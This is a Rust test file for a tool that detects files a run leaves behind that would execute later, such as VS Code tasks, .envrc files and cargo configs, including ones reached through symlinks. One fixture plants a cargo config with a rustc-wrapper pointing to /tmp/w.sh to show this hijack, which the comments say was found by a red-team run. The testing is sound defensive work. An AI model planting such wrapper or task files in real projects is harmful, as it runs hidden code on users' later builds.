/// the editor's settings beside a file the run added, a project's own
/// `platform/__init__.py` beside the bytecode the run wrote.
#[test]
fn old_files_in_directories_the_run_changed_stay() {
    for walk in [Walk::Whole, Walk::Changed] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut inputs = workspace(&root);
        for (rel, text) in [
            (".vscode/settings.json", "{}"),
            ("platform/__init__.py", ""),
            ("src/.envrc", "export A=1\n"),
        ] {
            std::fs::create_dir_all(root.join(rel).parent().unwrap()).unwrap();
            std::fs::write(root.join(rel), text).unwrap();
        }
        inputs.existing = vec![root.join(".vscode"), root.join("src/.envrc")];
        if walk == Walk::Changed {
            inputs.directories = Some(directories(&root));
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
        let watch = Watch::before(inputs);
        std::fs::write(root.join(".vscode/tasks.json"), "{}").unwrap();
        std::fs::create_dir(root.join("platform/__pycache__")).unwrap();
        std::fs::write(root.join("platform/__pycache__/x.cpython-312.pyc"), "").unwrap();
        std::fs::write(root.join("src/main.rs"), "").unwrap();
        let found = watch.after(match walk {
            Walk::Whole => Executables::List,
            Walk::Changed => Executables::Skip,
        });
        let mut got = lefts(&found);
        got.sort_by(|a, b| a.0.cmp(&b.0));
        let want = [
            ("tasks.json".to_string(), Left::RunLater),
            ("x.cpython-312.pyc".to_string(), Left::Bytecode),
        ];
        assert_eq!(got, want, "{walk:?}");
    }
}

/// A change made just after the start, stamped as file systems without
/// sub-second timestamps store it (whole seconds; FAT: even seconds),
/// counts as the run's: compared as is, a `.envrc` and a
/// `.cargo/config.toml` planted in the run's first second on a small ext4
/// (128-byte inodes) stayed, 5 runs in 5. A sub-second stamp before the
/// start does not.
#[test]
fn a_change_stamped_in_whole_seconds_after_the_start_is_the_runs() {
    for _ in 0..3 {
        let since = super::Stamp::now();
        let t = nix::time::clock_gettime(nix::time::ClockId::CLOCK_REALTIME).unwrap();
        for step in [1, 2] {
            let stored = super::Stamp {
                secs: t.tv_sec() - t.tv_sec().rem_euclid(step),
                nanos: 0,
            };
            assert!(stored.at_or_after(since), "{stored:?} < {since:?}");
        }
        let before = super::Stamp {
            secs: since.secs - 1,
            nanos: 999_999_999,
        };
        assert!(!before.at_or_after(since));
        std::thread::sleep(std::time::Duration::from_millis(300));
    }
}

/// The user's own links named as run-later directories, there before the
/// run (a monorepo's `crate/.cargo -> ../shared/cargo`, a shared
/// `.vscode`): what the run writes where they lead is set aside, in both
/// ways of walking; what was there and stayed unchanged is not (found by a
/// red-team run: cargo read a rewritten `shared/cargo/config.toml`).
#[test]
fn what_a_run_writes_where_a_run_later_link_leads_is_set_aside() {
    for walk in [Walk::Whole, Walk::Changed] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let mut inputs = workspace(&root);
        for d in ["shared/cargo", "shared/vscode", "crate/src", "app"] {
            std::fs::create_dir_all(root.join(d)).unwrap();
        }
        std::fs::write(root.join("shared/cargo/config.toml"), "[build]\n").unwrap();
        std::fs::write(root.join("shared/vscode/settings.json"), "{}\n").unwrap();
        std::os::unix::fs::symlink("../shared/cargo", root.join("crate/.cargo")).unwrap();
        std::os::unix::fs::symlink("../shared/vscode", root.join("app/.vscode")).unwrap();
        // One into the repository's git directory: never walked there.
        std::fs::create_dir_all(root.join("tools")).unwrap();
        std::os::unix::fs::symlink("../.git", root.join("tools/.vscode")).unwrap();
        // As the start-up search lists them: by their run-later names.
        inputs.existing = vec![
            root.join("crate/.cargo"),
            root.join("app/.vscode"),
            root.join("tools/.vscode"),
        ];
        if walk == Walk::Changed {
            inputs.directories = Some(directories(&root));
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
        let watch = Watch::before(inputs);
        let wrapper = "[build]\nrustc-wrapper = \"/tmp/w.sh\"\n";
        std::fs::write(root.join("shared/cargo/config.toml"), wrapper).unwrap();
        std::fs::write(root.join("shared/vscode/tasks.json"), "{}\n").unwrap();
        std::fs::write(root.join(".git/index"), "a commit's index").unwrap();
        let found = watch.after(Executables::Skip);
        let mut left = lefts(&found);
        left.sort_by(|a, b| a.0.cmp(&b.0));
        assert_eq!(
            left,
            [
                ("config.toml".to_string(), Left::RunLater),
                ("tasks.json".to_string(), Left::RunLater),
            ],
            "{walk:?}"
        );
        assert!(root.join("shared/vscode/settings.json").exists());
        assert!(root.join(".git/index").exists());
    }
}
